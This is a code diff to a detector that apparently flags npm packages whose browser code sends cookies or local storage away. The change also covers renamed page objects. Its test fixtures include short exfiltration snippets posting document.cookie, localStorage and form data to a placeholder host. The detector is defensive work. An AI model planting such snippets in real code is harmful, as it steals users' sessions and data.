@@ -1,5 +1,6 @@
 import type { Detector } from "../detector.ts";
 import type { SourceFile } from "../model.ts";
+import { isBundle } from "./_near.ts";
 import { scriptsWith } from "./_npm.ts";
 import { isMember, sight } from "./_sight.ts";
 import { takenAndSent } from "./_web-page.ts";
@@ -107,6 +108,19 @@ that form, which prevents what the browser does.`,
       {
         ecosystem: "npm",
         files: {
+          "a.js": "const d = document;\nfetch('https://example.invalid', { method: 'POST', body: d.cookie });\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const { localStorage: s } = window;\nnavigator.sendBeacon('https://example.invalid', JSON.stringify(s));\n",
+        },
+      },
+      {
+        ecosystem: "npm",
+        files: {
           "a.js":
             "const { cookie } = document;\nfetch('https://example.invalid/?' + cookie);\n$('form').on('submit', function () { $.post('https://example.invalid', $(this).serialize()); });\n",
         },
@@ -141,8 +155,28 @@ that form, which prevents what the browser does.`,
 
 const APART = /(?:^|\/)(?:tests?|__tests__|examples?|demos?|docs?|fixtures?)\//i;
 
+/** `const d = document`, `s = window.localStorage`, `{ localStorage: s } = window`: the page's own by another name. */
+const RENAMED =
+  /\b(?:const|let|var)[ \t]{1,3}(?:([A-Za-z_$][\w$]{0,40})[ \t]{0,3}=[ \t]{0,3}(?:window\.|globalThis\.)?(document|localStorage|sessionStorage)[ \t]{0,3}[;,\n]|\{[ \t]{0,3}(document|localStorage|sessionStorage)[ \t]{0,3}:[ \t]{0,3}([A-Za-z_$][\w$]{0,40})[ \t]{0,3}\})/g;
+const MOST_RENAMED = 20;
+
+/** All cookies, or a whole storage, of an object of the page that has another name in this file. */
+function renamedIn(file: SourceFile): RegExp | undefined {
+  const wholes = [...(isBundle(file) ? [] : file.text.matchAll(RENAMED).take(MOST_RENAMED))].map((match) => {
+    const name = (match[1] ?? match[4]!).replaceAll("$", "\\$");
+    return (match[2] ?? match[3]) === "document"
+      ? `(?<![\\w$.])${name}[ \\t]{0,2}\\.[ \\t]{0,2}cookie(?![ \\t]{0,3}(?:=(?!=)|\\.(?:split|match|indexOf|replace|includes|search|length|startsWith)|\\?\\.))`
+      : `(?:JSON\\.stringify\\(|Object\\.(?:entries|values)\\(|\\.\\.\\.)[ \\t]{0,2}${name}\\b(?!\\.)`;
+  });
+  return wholes.length === 0 ? undefined : new RegExp(wholes.join("|"), "g");
+}
+
 function takenIn(file: SourceFile) {
-  const secret = takenAndSent(file, COOKIES) ?? takenAndSent(file, STORAGE);
+  const renamed = renamedIn(file);
+  const secret =
+    takenAndSent(file, COOKIES) ??
+    takenAndSent(file, STORAGE) ??
+    (renamed === undefined ? undefined : takenAndSent(file, renamed));
   if (secret !== undefined) return { ...secret, share: 1 };
   const typed =
     takenAndSent(file, KEYS, (around) => GATHERS_KEYS.test(around)) ??
